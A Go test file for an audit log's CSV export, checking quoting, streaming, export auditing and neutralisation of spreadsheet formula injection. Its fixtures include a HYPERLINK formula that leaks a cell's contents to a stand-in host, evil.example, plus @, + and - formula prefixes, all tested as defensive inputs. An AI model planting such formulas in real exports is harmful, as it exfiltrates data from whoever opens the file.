package audit

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"ordercare/internal/db/dbtest"
)

// ExportCSV is ExportCSVWith without order references, for the tests.
func (l *Log) ExportCSV(ctx context.Context, w io.Writer, actor Actor, f Filter) (int64, error) {
	return l.ExportCSVWith(ctx, w, actor, f, ExportOptions{})
}

func TestExportCSVContentQuotingAndInjection(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, be dbtest.Backend) {
		ctx := context.Background()
		l, _ := openOn(t, be, Options{})
		at := time.Date(2026, 4, 1, 10, 0, 0, 0, time.UTC)
		appendAttempt(t, l, attemptSpec{id: "x1", at: at, staff: 1, order: "order-1", action: "create_capture",
			outcome: OutcomeSucceeded, ticket: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
			body: `{"captured_amount":1000,"description":"line one\nline \"two\", with comma"}`})
		appendAttempt(t, l, attemptSpec{id: "x2", at: at.Add(time.Hour), staff: 2, order: "order-2", action: "create_refund",
			outcome: OutcomeRefused, code: "REFUND_NOT_ALLOWED", msgs: []string{"+1 refund", "-2 @sum"}, ticket: "@SUM(A1:A9)"})
		appendAttempt(t, l, attemptSpec{id: "x3", at: at.Add(2 * time.Hour), staff: 1, order: "order-3", action: "cancel",
			outcome: OutcomeSucceeded, ticket: "\tTAB"})

		var buf bytes.Buffer
		actor := Actor{StaffID: 9, Email: "auditor@example.com", Role: "auditor"}
		n, err := l.ExportCSV(ctx, &buf, actor, Filter{StaffID: 1})
		if err != nil || n != 2 {
			t.Fatalf("exported %d, %v; want 2", n, err)
		}
		raw := buf.String()
		if !strings.HasSuffix(raw, "\r\n") || strings.Count(raw, "\r\n") < 3 {
			t.Fatalf("records must end in CRLF (RFC 4180): %q", raw)
		}
		recs, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
		if err != nil {
			t.Fatalf("not valid CSV: %v\n%s", err, raw)
		}
		if len(recs) != 3 || strings.Join(recs[0], ",") != strings.Join(ExportColumns, ",") {
			t.Fatalf("records = %d, header = %v", len(recs), recs[0])
		}
		col := func(rec []string, name string) string {
			for i, c := range ExportColumns {
				if c == name {
					return rec[i]
				}
			}
			t.Fatalf("no column %s", name)
			return ""
		}
		newest, oldest := recs[1], recs[2]
		if col(newest, "attempt_id") != "x3" || col(oldest, "attempt_id") != "x1" {
			t.Fatalf("order: %v / %v", newest, oldest)
		}
		if got := col(newest, "ticket"); got != "'\tTAB" {
			t.Errorf("tab cell = %q, want neutralised", got)
		}
		if got := col(oldest, "ticket"); got != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
			t.Errorf("formula cell = %q, want neutralised", got)
		}
		if got := col(oldest, "request"); got != `{"captured_amount":1000,"description":"line one\nline \"two\", with comma"}` {
			t.Errorf("request = %q: must round-trip through quoting unchanged", got)
		}
		if !strings.Contains(raw, `"{""captured_amount"":1000`) {
			t.Errorf("quotes inside a cell must be doubled: %s", raw)
		}
		if col(oldest, "requested_at") != "2026-04-01T10:00:00Z" || col(oldest, "staff_email") != "Staff1@Example.com" ||
			col(oldest, "outcome") != "succeeded" || col(oldest, "amount") != "1000" || col(oldest, "correlation_id") != "corr-x1" ||
			col(oldest, "resource_id") != "res-x1" || len(col(oldest, "requested_hash")) != 64 || len(col(oldest, "completed_hash")) != 64 {
			t.Errorf("content = %v", oldest)
		}
		// The export itself is on record, with the filters.
		evs, err := l.eventsWhere(ctx, `kind = 'export'`)
		if err != nil || len(evs) != 1 {
			t.Fatalf("export events = %v, %v", evs, err)
		}
		if e := evs[0]; e.Actor.Email != "auditor@example.com" || e.Detail["filter.staff_id"] != "1" || e.Detail["format"] != "csv" {
			t.Fatalf("export event = %+v", e)
		}

		// The refused row's messages begin with + and -, the ticket with @.
		buf.Reset()
		if _, err := l.ExportCSV(ctx, &buf, actor, Filter{StaffID: 2}); err != nil {
			t.Fatal(err)
		}
		recs, err = csv.NewReader(&buf).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%v %v", recs, err)
		}
		if got := col(recs[1], "ticket"); got != "'@SUM(A1:A9)" {
			t.Errorf("@ cell = %q", got)
		}
		if got := col(recs[1], "error_messages"); got != "'+1 refund; -2 @sum" {
			t.Errorf("+ cell = %q", got)
		}
	})
}

func TestNeutralise(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"": "", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1", "\tx": "'\tx", "\rx": "'\rx",
		"plain": "plain", "a=b": "a=b", " =1": " =1", "'=1": "'=1",
	} {
		if got := Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q, want %q", in, got, want)
		}
	}
}

// countingWriter counts bytes and the largest single write, to show the
// export streams instead of building the file in memory.
type countingWriter struct {
	n, writes, flushes int
}

func (w *countingWriter) Write(p []byte) (int, error) { w.n += len(p); w.writes++; return len(p), nil }
func (w *countingWriter) Flush()                      { w.flushes++ }

func TestExportStreamsPageByPage(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, be dbtest.Backend) {
		ctx := context.Background()
		l, _ := openOn(t, be, Options{})
		at := time.Date(2026, 5, 1, 0, 0, 0, 0, time.UTC)
		const n = 2*exportPageSize + 3
		for i := range n {
			appendAttempt(t, l, attemptSpec{id: fmt.Sprintf("s%04d", i), at: at.Add(time.Duration(i) * time.Second), staff: 1, order: "o", action: "cancel", outcome: OutcomeSucceeded})
		}
		w := &countingWriter{}
		got, err := l.ExportCSV(ctx, w, Actor{}, Filter{})
		if err != nil || got != n {
			t.Fatalf("exported %d, %v", got, err)
		}
		// One flush per page of 500: the rows were never all held at once.
		if w.flushes != 3 {
			t.Fatalf("%d flushes, want 3 (one per page)", w.flushes)
		}
		var buf bytes.Buffer
		if _, err := l.ExportCSV(ctx, &buf, Actor{}, Filter{}); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&buf)
		rows := 0
		for {
			if _, err := r.Read(); err == io.EOF {
				break
			} else if err != nil {
				t.Fatal(err)
			}
			rows++
		}
		if rows != n+1 {
			t.Fatalf("%d records, want %d + header", rows, n)
		}
	})
}

func TestExportRefusedWhenAuditFails(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, be dbtest.Backend) {
		l, _ := openOn(t, be, Options{})
		l.Close()
		var buf bytes.Buffer
		if _, err := l.ExportCSV(context.Background(), &buf, Actor{}, Filter{}); err == nil || buf.Len() != 0 {
			t.Fatalf("export without its audit event: err %v, %d bytes", err, buf.Len())
		}
	})
}
